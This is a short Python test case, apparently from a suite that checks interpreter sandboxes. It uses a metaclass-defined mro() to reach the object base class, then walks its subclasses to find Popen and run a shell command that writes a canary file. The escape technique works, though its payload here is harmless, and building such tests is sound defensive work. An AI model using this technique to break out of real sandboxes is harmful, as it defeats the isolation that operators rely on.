# id: 526
# name: mro_of_a_class_of_ones_own
# category: interpreter
# technique: mro() defined by a metaclass, super().mro()
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
class M(type):
    def mro(cls):
        r = super().mro()
        found.append(r[-1])
        return r
found = []
class C(metaclass=M): pass
for c in found[0].__subclasses__():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
